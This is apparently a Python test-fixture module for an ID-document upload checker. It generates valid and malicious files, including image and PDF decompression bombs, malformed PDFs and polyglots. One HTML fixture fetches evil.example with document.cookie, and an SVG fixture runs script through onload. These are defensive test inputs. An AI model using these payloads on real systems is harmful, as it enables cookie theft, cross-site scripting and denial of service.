"""Real files made by the tests: good documents and every kind of bad one."""

from __future__ import annotations

import contextlib
import io
import random
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image, ImageDraw
from pypdf import PdfWriter


def photo(width: int = 1200, height: int = 800, *, fmt: str = "JPEG", seed: int = 1) -> bytes:
    """A readable photo-like image: lines and text on a light background."""
    rng = random.Random(seed)
    image = Image.new("RGB", (width, height), (235, 235, 230))
    draw = ImageDraw.Draw(image)
    for _ in range(60):
        start = (rng.randrange(width), rng.randrange(height))
        end = (rng.randrange(width), rng.randrange(height))
        draw.line([start, end], fill=(rng.randrange(200), rng.randrange(200), 90), width=4)
    draw.text((40, 40), f"SPECIMEN {seed}", fill=(0, 0, 0))
    out = io.BytesIO()
    image.save(out, fmt)
    return out.getvalue()


def blank_photo(width: int = 1200, height: int = 800) -> bytes:
    """A photo of nothing: one flat colour."""
    out = io.BytesIO()
    Image.new("RGB", (width, height), (250, 250, 250)).save(out, "JPEG")
    return out.getvalue()


def blank_png(width: int = 3000, height: int = 2000) -> bytes:
    """A large PNG of one flat colour (compresses to almost nothing)."""
    out = io.BytesIO()
    Image.new("RGB", (width, height), (255, 255, 255)).save(out, "PNG")
    return out.getvalue()


def truncated_png() -> bytes:
    """A detailed PNG cut off in the middle of its image data."""
    data = photo(fmt="PNG")
    return data[: len(data) // 2]


def corrupted_png() -> bytes:
    """A detailed PNG with one byte of its image data flipped (its chunk checksum fails)."""
    data = bytearray(photo(fmt="PNG"))
    data[len(data) // 2] ^= 0xFF
    return bytes(data)


def tiny_photo() -> bytes:
    """A photo too small to read."""
    return photo(120, 80)


def truncated_photo() -> bytes:
    """A JPEG cut off after its first third."""
    data = photo()
    return data[: len(data) // 3]


def decompression_bomb() -> bytes:
    """A small PNG that claims a huge image (30000 x 30000 pixels)."""
    out = io.BytesIO()
    Image.new("1", (30000, 30000)).save(out, "PNG", optimize=True)
    return out.getvalue()


def pdf(pages: int = 1) -> bytes:
    """A valid PDF with blank pages."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    """A password-protected PDF."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="secret", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def broken_pdf() -> bytes:
    """Something that starts like a PDF and is not one."""
    return b"%PDF-1.7\n1 0 obj << /Type /Catalog >>\ngarbage garbage\n"


def self_referencing_pdf() -> bytes:
    """A PDF whose page tree lists itself as its own child."""
    return _pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
        ]
    )


def windows_executable() -> bytes:
    """The start of a Windows executable (what a renamed .exe looks like)."""
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200


def zip_archive() -> bytes:
    """A ZIP archive (what an archive renamed to .pdf looks like)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("licence.pdf", pdf())
    return out.getvalue()


def _pdf_from_objects(objects: list[bytes]) -> bytes:
    """A PDF made of these numbered objects (the first is the catalog), with a correct xref."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def zero_page_pdf() -> bytes:
    """A well-formed PDF whose page tree is empty."""
    return _pdf_from_objects(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
    )


def many_page_pdf(pages: int) -> bytes:
    """A compact, well-formed PDF with this many tiny blank pages (about 100 bytes a page)."""
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(pages))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return _pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
            *[page] * pages,
        ]
    )


def jpeg_bomb() -> bytes:
    """A small JPEG whose header claims a huge image (65000 x 65000 pixels)."""
    data = bytearray(photo(512, 384))
    index = 2
    while data[index + 1] not in (0xC0, 0xC1, 0xC2):  # walk the segments to the frame header
        index += 2 + int.from_bytes(data[index + 2 : index + 4], "big")
    data[index + 5 : index + 9] = (65000).to_bytes(2, "big") * 2
    return bytes(data)


def sliver_photo() -> bytes:
    """A photo wide enough but only 20 pixels high."""
    return photo(6000, 20)


def black_png(width: int = 1200, height: int = 800) -> bytes:
    """A PNG of pure black (a photo taken with the lens covered)."""
    out = io.BytesIO()
    Image.new("RGB", (width, height), (0, 0, 0)).save(out, "PNG")
    return out.getvalue()


def gif() -> bytes:
    """A readable GIF (not an accepted type)."""
    out = io.BytesIO()
    Image.open(io.BytesIO(photo())).convert("P").save(out, "GIF")
    return out.getvalue()


def webp() -> bytes:
    """A readable WebP photo (not an accepted type)."""
    out = io.BytesIO()
    Image.open(io.BytesIO(photo())).save(out, "WEBP")
    return out.getvalue()


def heic() -> bytes:
    """The start of an HEIC photo, as iPhones take them (not an accepted type)."""
    brand = b"ftypheic" + b"\x00\x00\x00\x00" + b"mif1heic"
    return (len(brand) + 4).to_bytes(4, "big") + brand + b"\x00" * 200


def html_with_script() -> bytes:
    """An HTML page that runs a script."""
    return (
        b"<!DOCTYPE html><html><head><title>ID</title></head>"
        b"<body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>"
    )


def svg_with_script() -> bytes:
    """An SVG image that runs a script when opened."""
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="800" onload="alert(1)">'
        b"<script>alert(document.domain)</script>"
        b'<rect width="1200" height="800" fill="#ccc"/></svg>'
    )


def jpeg_header_zip() -> bytes:
    """A polyglot: the first bytes of a JPEG, then a ZIP archive."""
    return photo()[:20] + zip_archive()


# --------------------------------------------------------------- real-world classes (issue 18)


def _scan_lines(image: Image.Image, ink: int | tuple[int, ...]) -> Image.Image:
    """Draw a page's worth of text-like lines onto the image."""
    draw = ImageDraw.Draw(image)
    width, height = image.size
    rng = random.Random(18)
    for top in range(height // 10, height - height // 10, max(12, height // 60)):
        left = width // 10
        while left < width - width // 10:
            word = rng.randint(width // 60, width // 12)
            draw.rectangle((left, top, left + word, top + max(3, height // 400)), fill=ink)
            left += word + width // 80
    return image


def bw_a4_scan() -> bytes:
    """An A4 page scanned at 300 dpi in black and white (PNG mode 1), as licences are."""
    out = io.BytesIO()
    _scan_lines(Image.new("1", (2480, 3508), 1), 0).save(out, "PNG")
    return out.getvalue()


def palette_scan() -> bytes:
    """A scan saved with a colour palette (PNG mode P), 1240 x 1754."""
    out = io.BytesIO()
    _scan_lines(Image.new("RGB", (1240, 1754), (250, 250, 245)), (20, 20, 90)).convert(
        "P", palette=Image.Palette.ADAPTIVE
    ).save(out, "PNG")
    return out.getvalue()


def sixteen_bit_scan() -> bytes:
    """A 16-bit greyscale scan (PNG mode I;16), 1240 x 1754."""
    grey = _scan_lines(Image.new("L", (1240, 1754), 240), 10)
    out = io.BytesIO()
    grey.convert("I").point(lambda value: value * 257).convert("I;16").save(out, "PNG")
    return out.getvalue()


def _png_chunks(data: bytes) -> list[tuple[bytes, bytes]]:
    """The (type, data) chunks of a PNG."""
    chunks = []
    index = 8
    while index < len(data):
        length = int.from_bytes(data[index : index + 4], "big")
        chunks.append((data[index + 4 : index + 8], data[index + 8 : index + 8 + length]))
        index += 12 + length
    return chunks


def _png_from_chunks(chunks: list[tuple[bytes, bytes]]) -> bytes:
    """A PNG made of these chunks, each with a correct checksum."""
    out = bytearray(b"\x89PNG\r\n\x1a\n")
    for kind, body in chunks:
        crc = zlib.crc32(kind + body).to_bytes(4, "big")
        out += len(body).to_bytes(4, "big") + kind + body + crc
    return bytes(out)


def _detailed_png_in_one_idat() -> list[tuple[bytes, bytes]]:
    """A detailed PNG's chunks with all its image data in one IDAT chunk."""
    chunks = _png_chunks(photo(fmt="PNG"))
    idat = b"".join(body for kind, body in chunks if kind == b"IDAT")
    head = [c for c in chunks if c[0] not in (b"IDAT", b"IEND")]
    return [*head, (b"IDAT", idat), (b"IEND", b"")]


def png_with_random_idat() -> bytes:
    """A PNG whose image data has random bytes in the middle, checksums made right."""
    chunks = _detailed_png_in_one_idat()
    kind, body = chunks[-2]
    middle = len(body) // 2
    noise = random.Random(18).randbytes(4096)
    chunks[-2] = (kind, body[:middle] + noise + body[middle + len(noise) :])
    return _png_from_chunks(chunks)


def png_with_idat_cut_in_half() -> bytes:
    """A PNG whose image data stops half-way, checksums made right and IEND present."""
    chunks = _detailed_png_in_one_idat()
    kind, body = chunks[-2]
    chunks[-2] = (kind, body[: len(body) // 2])
    return _png_from_chunks(chunks)


def apng() -> bytes:
    """An animated PNG of three frames, the first a readable photo."""
    frames = [Image.open(io.BytesIO(photo(seed=seed))) for seed in (1, 2, 3)]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:], duration=500)
    return out.getvalue()


def owner_password_pdf() -> bytes:
    """A PDF with only an owner password (printing restricted): anyone can open it."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="", owner_password="owner-secret", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def empty_user_password_pdf() -> bytes:
    """An encrypted PDF whose user and owner passwords are both empty (RC4, revision 3)."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="", owner_password="", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


_PAGE = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>"


def empty_first_branch_pdf() -> bytes:
    """A PDF whose page tree starts with an empty branch, then one of 3 pages (pdf.js
    issue 8088): every reader shows 3 pages."""
    return _pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 3 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [] /Count 0 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [5 0 R 6 0 R 7 0 R] /Count 3 >>",
            _PAGE % 4,
            _PAGE % 4,
            _PAGE % 4,
        ]
    )


def indirect_count_pdf() -> bytes:
    """A PDF whose page count is an indirect object (legal; every reader follows it)."""
    return _pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [4 0 R] /Count 3 0 R >>",
            b"1",
            _PAGE % 2,
        ]
    )


def huge_count_pdf() -> bytes:
    """A PDF that declares 9,999,999,999 pages and has one (readers show the one)."""
    return _pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 9999999999 >>",
            _PAGE % 2,
        ]
    )


def junk_before_header_pdf() -> bytes:
    """A valid PDF with 200 bytes of a mail gateway's banner before `%PDF-`."""
    return b"X-Scanned-By: gateway\r\n" + b"." * 175 + b"\r\n" + pdf()


def object_stream_pdf(objects: int) -> bytes:
    """A valid one-page PDF whose catalog sits in an object stream with `objects` small
    objects beside it (pypdf parses them all to reach the catalog; bug1978317 in pdf.js)."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        _PAGE % 2,
        *[b"[%d 0 R]" % (number % 3 + 1) for number in range(objects)],
    ]
    header = bytearray()
    content = bytearray()
    for number, body in enumerate(bodies, start=1):
        header += b"%d %d " % (number, len(content))
        content += body + b" "
    stream = zlib.compress(bytes(header) + bytes(content))
    stream_number = len(bodies) + 1
    xref_number = stream_number + 1
    out = bytearray(b"%PDF-1.5\n")
    stream_offset = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n" % (
        stream_number,
        len(bodies),
        len(header),
        len(stream),
    )
    out += b"stream\n" + stream + b"\nendstream\nendobj\n"
    xref_offset = len(out)
    rows = bytearray(b"\x00\x00\x00\x00\x00\x00\x00\xff\xff")
    for index in range(len(bodies)):
        rows += b"\x02" + stream_number.to_bytes(4, "big") + index.to_bytes(4, "big")
    rows += b"\x01" + stream_offset.to_bytes(4, "big") + b"\x00" * 4
    rows += b"\x01" + xref_offset.to_bytes(4, "big") + b"\x00" * 4
    packed = zlib.compress(bytes(rows))
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 4] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n" % (xref_number, xref_number + 1, len(packed))
    )
    out += packed + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


@contextlib.contextmanager
def tight_check_limits(cpu_seconds: float = 0.2) -> Iterator[None]:
    """Judge files within a tiny CPU bound (`object_stream_pdf(300_000)` needs seconds, so it
    is certainly `file_too_complex`); the usual limits come back afterwards."""
    from cardbot.core import bounded_check

    before = bounded_check.current_limits()
    bounded_check.configure(
        bounded_check.Limits(cpu_seconds=cpu_seconds, memory_bytes=before.memory_bytes)
    )
    try:
        yield
    finally:
        bounded_check.configure(before)
